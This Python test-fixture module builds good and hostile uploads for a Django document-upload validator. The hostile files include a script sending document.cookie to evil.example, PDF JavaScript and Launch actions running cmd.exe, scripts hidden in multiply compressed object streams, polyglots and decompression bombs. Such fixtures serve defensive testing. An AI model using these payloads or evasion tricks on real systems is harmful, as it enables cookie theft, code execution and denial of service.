"""Uploads built in memory, good and bad, for the upload, form, view and browser tests.

Each builder returns a fresh `SimpleUploadedFile` with the name and content type a
browser would send, so the claimed type is often a lie: only the bytes count.
Hostile PDFs are written byte by byte where the trick is in the bytes (object
streams, filters, what lies outside the objects) and with pikepdf where it is in
the objects; nothing binary is kept in the repository.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageCms, ImageDraw

from django.core.files.uploadedfile import SimpleUploadedFile

from applications.uploads import DEFAULT_MAX_BYTES

PDF = "application/pdf"
JPEG = "image/jpeg"
PNG = "image/png"

_PAGE_TEXT = b"BT /F1 24 Tf 72 760 Td (Surat Pengantar RT 004 / RW 002) Tj ET"


def good_pdf(
    size_bytes: int | None = None, *, name: str = "surat-pengantar-rt.pdf"
) -> SimpleUploadedFile:
    """A one-page A4 PDF that viewers open, padded with a comment to exactly
    `size_bytes` when given (1 MB for benchmarks, the limit for boundary tests)."""
    return SimpleUploadedFile(name, _padded_pdf(_page_objects(), size_bytes), PDF)


def good_png(*, name: str = "pas-foto-3x4.png") -> SimpleUploadedFile:
    """A small passport-style photo as PNG."""
    return SimpleUploadedFile(name, _photo_bytes("PNG"), PNG)


def good_jpeg(*, name: str = "ktp-el.jpg") -> SimpleUploadedFile:
    """A small photographed KTP-el as JPEG."""
    return SimpleUploadedFile(name, _photo_bytes("JPEG"), JPEG)


def phone_photo_mpo() -> SimpleUploadedFile:
    """A phone photo with an MPF depth frame: a valid JPEG that Pillow calls "MPO"."""
    front, depth = _photo(), _photo().convert("L").convert("RGB")
    buffer = io.BytesIO()
    front.save(buffer, "MPO", save_all=True, append_images=[depth])
    return SimpleUploadedFile("IMG_20250114_093012.jpg", buffer.getvalue(), JPEG)


def pdf_with_binary_stream() -> SimpleUploadedFile:
    """A good PDF with an image stream whose bytes happen to spell "/JS" and
    "/Launch", as compressed scans sometimes do; nothing in it is an action."""
    pixels = (b"\x00\x11/JS\n\x7f/Launch \x80/JavaScript(" * 12)[: 16 * 20]
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 16 /Height 20 /ColorSpace "
        b"/DeviceGray /BitsPerComponent 8 /Length %d >>\nstream\n"
        % len(pixels)
        + pixels
        + b"\nendstream"
    )
    objects = _page_objects(xobject=6)
    objects.append(image)
    return SimpleUploadedFile("kartu-keluarga-scan.pdf", _padded_pdf(objects), PDF)


def html_renamed_pdf() -> SimpleUploadedFile:
    """An HTML page with a script, renamed `.pdf` and claimed as a PDF."""
    content = (
        b"<!DOCTYPE html>\n<html><head><title>Surat Pengantar</title></head>\n"
        b"<body><script>fetch('https://evil.example/?c=' + document.cookie)"
        b"</script></body></html>\n"
    )
    return SimpleUploadedFile("surat-pengantar.pdf", content, PDF)


def svg_with_script() -> SimpleUploadedFile:
    """An SVG "photo" that runs a script when a browser shows it inline."""
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="400">'
        b'<rect width="300" height="400" fill="#ddd"/>'
        b"<script>alert(document.domain)</script></svg>\n"
    )
    return SimpleUploadedFile("pas-foto.svg", content, "image/svg+xml")


def zip_file() -> SimpleUploadedFile:
    """A Word document (DOCX, so a ZIP archive) instead of a PDF."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", "<w:document>Surat kuasa</w:document>")
    return SimpleUploadedFile(
        "surat-kuasa.docx",
        buffer.getvalue(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )


def gif_file() -> SimpleUploadedFile:
    """A GIF photo: a real image, but not an accepted type."""
    buffer = io.BytesIO()
    _photo().convert("P").save(buffer, "GIF")
    return SimpleUploadedFile("pas-foto.gif", buffer.getvalue(), "image/gif")


def exe_file() -> SimpleUploadedFile:
    """A Windows program (MZ header) named like a scan."""
    content = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00"
    return SimpleUploadedFile("scan-ktp.pdf.exe", content, "application/x-msdownload")


def text_file() -> SimpleUploadedFile:
    """Plain text typed instead of scanned."""
    content = b"NIK: 2171xxxxxxxxxxxx\nNama: Siti Aminah\n"
    return SimpleUploadedFile("ktp.txt", content, "text/plain")


def empty_file() -> SimpleUploadedFile:
    """A zero-byte file, as a failed phone upload leaves."""
    return SimpleUploadedFile("ktp-el.pdf", b"", PDF)


def oversize_pdf(limit: int = DEFAULT_MAX_BYTES) -> SimpleUploadedFile:
    """A valid PDF one byte over `limit`, like a scan at 600 dpi."""
    return good_pdf(size_bytes=limit + 1, name="kartu-keluarga-600dpi.pdf")


def truncated_pdf() -> SimpleUploadedFile:
    """A 200 kB PDF whose upload stopped halfway: no trailer, no `%%EOF`."""
    content = _padded_pdf(_page_objects(), 200_000)
    return SimpleUploadedFile("akta-kelahiran.pdf", content[:100_000], PDF)


def pdf_with_javascript() -> SimpleUploadedFile:
    """A PDF that runs JavaScript when opened (`/OpenAction` of `/S /JavaScript`)."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('MPP'\\);) >>"
    return _pdf_opening(action, name="surat-pengantar.pdf")


def pdf_with_hex_escaped_javascript() -> SimpleUploadedFile:
    """The JavaScript action with its names hex-escaped (`/J#53` is `/JS`)."""
    action = b"<< /Type /Action /S /Java#53cript /J#53 (app.alert\\(1\\);) >>"
    return _pdf_opening(action, name="surat-pernyataan.pdf")


def pdf_with_launch_action() -> SimpleUploadedFile:
    """A PDF that asks the viewer to start a program when opened."""
    action = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return _pdf_opening(action, name="npwp.pdf")


def pdf_with_javascript_in_object_stream() -> SimpleUploadedFile:
    """A PDF 1.5 whose JavaScript action sits in a Flate-compressed object stream,
    where a search of the raw bytes cannot see it."""
    return SimpleUploadedFile(
        "ijazah.pdf", _pdf_with_object_stream([_JS_ACTION], _flate), PDF
    )


def pdf_with_javascript_in_double_flate_object_stream() -> SimpleUploadedFile:
    """The same, the object stream compressed twice (`[/FlateDecode /FlateDecode]`),
    so that inflating it once shows only more compressed bytes."""
    return SimpleUploadedFile(
        "transkrip-nilai.pdf",
        _pdf_with_object_stream(
            [_JS_ACTION],
            lambda raw: _flate(_flate(raw)),
            b"/Filter [/FlateDecode /FlateDecode]",
        ),
        PDF,
    )


def pdf_with_javascript_in_predicted_object_stream() -> SimpleUploadedFile:
    """The same, compressed twice with a PNG predictor on the inner Flate
    (`/Predictor 12`): even inflated twice, the bytes are row differences."""
    columns = 7
    return SimpleUploadedFile(
        "sertifikat.pdf",
        _pdf_with_object_stream(
            [_JS_ACTION],
            lambda raw: _flate(_flate(_png_up_rows(raw, columns))),
            b"/Filter [/FlateDecode /FlateDecode] "
            b"/DecodeParms [null << /Predictor 12 /Columns %d >>]" % columns,
        ),
        PDF,
    )


def pdf_with_lzw_object_stream() -> SimpleUploadedFile:
    """A good PDF 1.5 whose object stream claims LZW, which qpdf would inflate
    without any memory limit."""
    return SimpleUploadedFile(
        "surat-keterangan.pdf",
        _pdf_with_object_stream(
            [b"<< /Producer (Scanner) >>"], _lzw_literal, b"/Filter /LZWDecode"
        ),
        PDF,
    )


def pdf_with_flate_bomb_object_stream(megabytes: int = 20) -> SimpleUploadedFile:
    """A PDF 1.5 whose object stream is about 20 kB that inflates to 20 MB (a
    dictionary padded with spaces): more than the PDF decoder is allowed."""
    padded = b"<< /Producer (Scanner)" + b" " * (megabytes * 1024 * 1024) + b">>"
    return SimpleUploadedFile(
        "kartu-keluarga.pdf", _pdf_with_object_stream([padded], _flate), PDF
    )


def pdf_with_many_objects(count: int) -> SimpleUploadedFile:
    """A good one-page PDF 1.5 with `count` more (null) objects packed in an object
    stream, for the object-count limit."""
    return SimpleUploadedFile(
        "lampiran.pdf", _pdf_with_object_stream([b"null"] * count, _flate), PDF
    )


def pdf_with_xfa_script() -> SimpleUploadedFile:
    """A PDF form whose XFA template runs a script when it opens."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template '
        b'xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('https://evil.example/');</script></event></subform>"
        b"</template></xdp:xdp>"
    )

    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=pdf.make_stream(xfa)
        )

    return _pikepdf_document(build, name="formulir-isian.pdf")


def pdf_with_embedded_file() -> SimpleUploadedFile:
    """A PDF carrying a program in its /EmbeddedFiles name tree."""

    def build(pdf: pikepdf.Pdf) -> None:
        spec = _file_spec(pdf, b"MZ\x90\x00 not really a program", "update.exe")
        pdf.Root.Names = pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("update.exe"), spec])
            )
        )

    return _pikepdf_document(build, name="surat-kuasa.pdf")


def pdf_with_file_attachment_annotation() -> SimpleUploadedFile:
    """A PDF with a paper-clip annotation holding a file."""

    def build(pdf: pikepdf.Pdf) -> None:
        spec = _file_spec(pdf, b"<html><script>alert(1)</script></html>", "a.html")
        _annotate(
            pdf,
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.FileAttachment,
                Rect=[72, 700, 92, 720],
                FS=spec,
            ),
        )

    return _pikepdf_document(build, name="bukti-bayar.pdf")


def pdf_with_link_action(action_type: str, **entries) -> SimpleUploadedFile:
    """A PDF with a link whose action is of `action_type` (SubmitForm, GoToR, ...):
    the officer only has to click it."""

    def build(pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name("/" + action_type), **entries
        )
        _annotate(pdf, _link(action))

    return _pikepdf_document(build, name=f"tautan-{action_type.lower()}.pdf")


def pdf_with_launch_link() -> SimpleUploadedFile:
    """A link that starts a program when clicked."""
    return pdf_with_link_action(
        "Launch", Win=pikepdf.Dictionary(F="cmd.exe", P="/c calc")
    )


def pdf_with_uri_link() -> SimpleUploadedFile:
    """A letter with an ordinary web link (a verification page): accepted."""
    return pdf_with_link_action("URI", URI="https://mpp.kepriprov.go.id/cek")


def pdf_with_reset_form_then_javascript() -> SimpleUploadedFile:
    """A harmless ResetForm action with JavaScript chained after it (/Next)."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1);")
    return pdf_with_link_action("ResetForm", Next=script)


def pdf_opening_uri() -> SimpleUploadedFile:
    """A PDF that calls a web address by itself as it opens."""
    action = b"<< /Type /Action /S /URI /URI (https://tracker.example/open) >>"
    return _pdf_opening(action, name="undangan.pdf")


def pdf_with_page_javascript() -> SimpleUploadedFile:
    """JavaScript run when the first page opens (the page's /AA /O)."""

    def build(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = pikepdf.Dictionary(
            O=pdf.make_indirect(
                pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1);")
            )
        )

    return _pikepdf_document(build, name="surat-pernyataan.pdf")


def pdf_with_page_uri_on_open() -> SimpleUploadedFile:
    """A web address called when the first page opens (/AA /O), after a harmless
    GoTo: automatic, so refused like an /OpenAction."""

    def build(pdf: pikepdf.Pdf) -> None:
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://tracker.example/")
        go_to = pikepdf.Dictionary(
            S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        )
        go_to.Next = uri
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=go_to)

    return _pikepdf_document(build, name="undangan-rapat.pdf")


def pdf_with_field_javascript() -> SimpleUploadedFile:
    """A form field whose keystroke action (/AA /K on the widget) is JavaScript."""

    def build(pdf: pikepdf.Pdf) -> None:
        widget = _annotate(
            pdf,
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T="nama",
                Rect=[72, 700, 300, 720],
                AA=pikepdf.Dictionary(
                    K=pikepdf.Dictionary(
                        S=pikepdf.Name.JavaScript, JS="this.submitForm('x');"
                    )
                ),
            ),
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))

    return _pikepdf_document(build, name="formulir.pdf")


def pdf_with_javascript_name_tree() -> SimpleUploadedFile:
    """A document-level script in the catalog's /Names /JavaScript tree."""

    def build(pdf: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1);")
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("init"), script])
            )
        )

    return _pikepdf_document(build, name="brosur.pdf")


def pdf_with_rich_media() -> SimpleUploadedFile:
    """A rich-media (Flash-era) annotation with its content."""

    def build(pdf: pikepdf.Pdf) -> None:
        asset = _file_spec(pdf, b"FWS\x0a not really flash", "player.swf")
        _annotate(
            pdf,
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.RichMedia,
                Rect=[72, 500, 372, 700],
                RichMediaContent=pikepdf.Dictionary(
                    Assets=pikepdf.Dictionary(
                        Names=pikepdf.Array([pikepdf.String("player.swf"), asset])
                    )
                ),
            ),
        )

    return _pikepdf_document(build, name="video-profil.pdf")


def encrypted_pdf() -> SimpleUploadedFile:
    """A PDF that needs a password to open (an e-statement, say)."""
    return _pikepdf_document(
        lambda pdf: None,
        name="rekening-koran.pdf",
        encryption=pikepdf.Encryption(user="rahasia", owner="bank", R=6),
    )


def owner_locked_pdf() -> SimpleUploadedFile:
    """A PDF encrypted only to forbid editing: it opens without a password."""
    return _pikepdf_document(
        lambda pdf: None,
        name="sk-pensiun.pdf",
        encryption=pikepdf.Encryption(
            user="",
            owner="instansi",
            R=4,
            allow=pikepdf.Permissions(modify_other=False),
        ),
    )


def pdf_with_html_after_eof() -> SimpleUploadedFile:
    """A polyglot: a good PDF, then an HTML page with a script after its `%%EOF`,
    then another `%%EOF`. A PDF viewer shows the letter, a browser sniffing the
    bytes may run the page."""
    html = (
        b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)"
        b"</script></body></html>\n%%EOF\n"
    )
    content = _pdf(_page_objects(), padding=0) + html
    return SimpleUploadedFile("surat-domisili.pdf", content, PDF)


def pdf_with_html_inside() -> SimpleUploadedFile:
    """A polyglot: HTML straight after the `%PDF-` header, the PDF's objects after
    it and `%%EOF` at the end; the cross-reference table skips the HTML."""
    html = b"<html><body><script>alert(document.domain)</script></body></html>\n"
    return SimpleUploadedFile(
        "surat-usaha.pdf", _pdf(_page_objects(), padding=0, garbage=html), PDF
    )


def html_between_pdf_markers() -> SimpleUploadedFile:
    """An HTML page between a `%PDF-` header and a `%%EOF`: no PDF at all."""
    content = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
    return SimpleUploadedFile("surat-pengantar.pdf", content, PDF)


def long_pdf(pages: int) -> SimpleUploadedFile:
    """A good PDF of `pages` blank pages."""

    def build(pdf: pikepdf.Pdf) -> None:
        for _ in range(pages - 1):
            pdf.add_blank_page(page_size=(595, 842))

    return _pikepdf_document(build, name="skripsi.pdf")


def png_with_zip_appended() -> SimpleUploadedFile:
    """A polyglot: a good PNG with a ZIP archive after its last chunk; an
    unzipping tool finds the archive, an image viewer the photo."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    content = _photo_bytes("PNG") + buffer.getvalue()
    return SimpleUploadedFile("pas-foto.png", content, PNG)


#: Where `jpeg_with_gps` says it was taken (a house in Batam).
GPS_LATITUDE = (1.0, 7.0, 30.12)


def jpeg_with_gps() -> SimpleUploadedFile:
    """A phone photo whose EXIF tells where it was taken (GPS), by which phone and
    how to turn it (orientation 6: rotate 90° clockwise to view)."""
    image = _photo()  # 120 × 160, stored sideways: upright it is 160 × 120
    exif = Image.Exif()
    exif[0x0110] = "Redmi Note 12"  # Model
    exif[0x0112] = 6  # Orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: GPS_LATITUDE, 3: "E", 4: (104.0, 2.0, 5.0)})
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"Jl. Teuku Umar No. 7")
    return SimpleUploadedFile("IMG_20260114_093012.jpg", buffer.getvalue(), JPEG)


def png_with_text_chunks() -> SimpleUploadedFile:
    """A PNG with EXIF and text chunks (an editor's name and a comment)."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Siti Aminah")
    info.add_itxt("Comment", "Rumah: Jl. Teuku Umar No. 7")
    exif = Image.Exif()
    exif[0x0110] = "Redmi Note 12"
    buffer = io.BytesIO()
    _photo().save(buffer, "PNG", pnginfo=info, exif=exif)
    return SimpleUploadedFile("pas-foto.png", buffer.getvalue(), PNG)


def cmyk_jpeg() -> SimpleUploadedFile:
    """A CMYK JPEG, as print shops and some scanners save."""
    buffer = io.BytesIO()
    _photo().convert("CMYK").save(buffer, "JPEG", quality=85)
    return SimpleUploadedFile("akta.jpg", buffer.getvalue(), JPEG)


def jpeg_with_icc_profile() -> SimpleUploadedFile:
    """An RGB JPEG with an embedded colour profile."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    _photo().save(buffer, "JPEG", quality=80, icc_profile=profile)
    return SimpleUploadedFile("ijazah.jpg", buffer.getvalue(), JPEG)


def palette_png_with_transparency() -> SimpleUploadedFile:
    """A palette PNG whose first colour is transparent (a stamp, a signature)."""
    image = _photo().convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", transparency=0)
    return SimpleUploadedFile("tanda-tangan.png", buffer.getvalue(), PNG)


def rgba_png() -> SimpleUploadedFile:
    """An RGBA PNG with a half-transparent area."""
    image = _photo().convert("RGBA")
    image.putalpha(Image.linear_gradient("L").resize(image.size))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return SimpleUploadedFile("stempel.png", buffer.getvalue(), PNG)


def sixteen_bit_png() -> SimpleUploadedFile:
    """A 16-bit greyscale PNG, as scanners in "archive" mode save."""
    gradient = Image.linear_gradient("L").resize((64, 48)).convert("I")
    image = gradient.point(lambda value: value * 257).convert("I;16")
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return SimpleUploadedFile("pindaian.png", buffer.getvalue(), PNG)


def png_header_garbage() -> SimpleUploadedFile:
    """PNG magic bytes followed by junk: a polyglot or a corrupted photo."""
    content = b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>" * 20
    return SimpleUploadedFile("pas-foto.png", content, PNG)


def truncated_jpeg() -> SimpleUploadedFile:
    """A JPEG photo cut off halfway; its header alone looks fine."""
    content = _photo_bytes("JPEG")
    return SimpleUploadedFile("ktp-el.jpg", content[: len(content) // 2], JPEG)


def png_decompression_bomb(
    width: int = 8_000, height: int = 8_000
) -> SimpleUploadedFile:
    """A valid black 1-bit PNG of `width` × `height` pixels: a few kB on disk, about
    200 MB once decoded to RGB. 8000 × 8000 is 64 megapixels, under Pillow's own
    warning limit; 20000 × 20000 trips Pillow's DecompressionBombError."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    content = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return SimpleUploadedFile("pas-foto.png", content, PNG)


def _photo() -> Image.Image:
    image = Image.linear_gradient("L").resize((120, 160)).convert("RGB")
    draw = ImageDraw.Draw(image)
    draw.ellipse((30, 25, 90, 95), fill=(224, 172, 105))
    draw.rectangle((20, 110, 100, 160), fill=(30, 60, 140))
    return image


def _photo_bytes(image_format: str) -> bytes:
    buffer = io.BytesIO()
    _photo().save(buffer, image_format)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def _page_objects(
    *, open_action: int | None = None, xobject: int | None = None
) -> list[bytes]:
    """Objects 1-5 of a one-page PDF: catalog, pages, page, font, content."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if open_action is not None:
        catalog += b" /OpenAction %d 0 R" % open_action
    resources = b"/Font << /F1 4 0 R >>"
    if xobject is not None:
        resources += b" /XObject << /Im1 %d 0 R >>" % xobject
    return [
        catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << " + resources + b" >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(_PAGE_TEXT) + _PAGE_TEXT + b"\nendstream",
    ]


_JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>"


def _flate(raw: bytes) -> bytes:
    return zlib.compress(raw, 9)


def _png_up_rows(raw: bytes, columns: int) -> bytes:
    """`raw` as PNG rows of `columns` bytes, each with filter 2 ("Up"): every byte
    is stored as its difference from the byte above."""
    raw += bytes(-len(raw) % columns)  # NUL pads the last row: PDF whitespace
    previous, rows = bytes(columns), []
    for start in range(0, len(raw), columns):
        row = raw[start : start + columns]
        rows.append(
            b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
        )
        previous = row
    return b"".join(rows)


def _lzw_literal(raw: bytes) -> bytes:
    """`raw` as valid LZW (early change) of 9-bit literal codes, with a clear code
    before the table would make codes wider."""
    codes = [256]
    for start in range(0, len(raw), 200):
        codes += [*raw[start : start + 200], 256]
    codes.append(257)
    bits = "".join(f"{code:09b}" for code in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _pdf_with_object_stream(
    packed: list[bytes], encode, filters: bytes = b"/Filter /FlateDecode"
) -> bytes:
    """A one-page PDF 1.5: objects 1-5 as in `_page_objects` (the catalog opens
    object 6), then `packed` as objects 6... in one object stream encoded with
    `encode` and described by `filters`, and a cross-reference stream that finds
    them there."""
    objects = _page_objects(open_action=len(_page_objects()) + 1)
    first = len(objects) + 1
    offsets, position = [], 0
    for content in packed:
        offsets.append(position)
        position += len(content) + 1
    index = b" ".join(b"%d %d" % (first + i, at) for i, at in enumerate(offsets))
    index += b"\n"
    encoded = encode(index + b"".join(content + b"\n" for content in packed))
    stream_number = first + len(packed)
    objects_stream = (
        b"<< /Type /ObjStm /N %d /First %d %s /Length %d >>\nstream\n"
        % (len(packed), len(index), filters, len(encoded))
        + encoded
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = [(0, 0, 65535)]  # (type, field 2, field 3) of each object
    for number, content in enumerate(objects, start=1):
        entries.append((1, len(out), 0))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    entries += [(2, stream_number, i) for i in range(len(packed))]
    entries.append((1, len(out), 0))
    out += b"%d 0 obj\n" % stream_number + objects_stream + b"\nendobj\n"
    xref_offset = len(out)
    entries.append((1, xref_offset, 0))  # the cross-reference stream itself
    rows = b"".join(struct.pack(">BII", *entry) for entry in entries)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d >>\n"
        % (stream_number + 1, len(entries), len(rows))
        + b"stream\n"
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _pikepdf_document(build, *, name: str, **save_options) -> SimpleUploadedFile:
    """A one-page A4 PDF made with pikepdf, changed by `build(pdf)` first."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save_options)
    return SimpleUploadedFile(name, buffer.getvalue(), PDF)


def _file_spec(pdf: pikepdf.Pdf, data: bytes, filename: str) -> pikepdf.Dictionary:
    stream = pdf.make_stream(data, Type=pikepdf.Name.EmbeddedFile)
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F=filename, EF=pikepdf.Dictionary(F=stream)
        )
    )


def _link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[72, 740, 300, 760],
        Border=[0, 0, 0],
        A=action,
    )


def _annotate(pdf: pikepdf.Pdf, annotation: pikepdf.Dictionary) -> pikepdf.Object:
    """Add `annotation` to the first page; the indirect annotation."""
    annotation = pdf.make_indirect(annotation)
    annotation.P = pdf.pages[0].obj
    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])
    return annotation


def _pdf_opening(action: bytes, *, name: str) -> SimpleUploadedFile:
    objects = _page_objects(open_action=6)
    objects.append(action)
    return SimpleUploadedFile(name, _padded_pdf(objects), PDF)


def _padded_pdf(objects: list[bytes], size_bytes: int | None = None) -> bytes:
    if size_bytes is None:
        return _pdf(objects, padding=0)
    padding = size_bytes - len(_pdf(objects, padding=0))
    # The startxref offset gains digits as the padding grows; settle on the size.
    while padding >= 0 and len(_pdf(objects, padding=padding)) != size_bytes:
        padding += size_bytes - len(_pdf(objects, padding=padding))
    if padding < 0:
        raise ValueError(f"A PDF cannot be as small as {size_bytes} bytes.")
    return _pdf(objects, padding=padding)


def _pdf(objects: list[bytes], *, padding: int, garbage: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table and `padding` bytes of comments
    after the header (then `garbage`, which the table skips)."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    body += _comment_lines(padding) + garbage
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref_offset = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(body)


def _comment_lines(size: int) -> bytes:
    """`size` bytes of PDF comment lines of at most 80 bytes each."""
    full, rest = divmod(size, 80)
    lines = [b"%" + b"-" * 78 + b"\n"] * full
    if rest == 1:
        lines.append(b"\n")
    elif rest:
        lines.append(b"%" + b"-" * (rest - 2) + b"\n")
    return b"".join(lines)
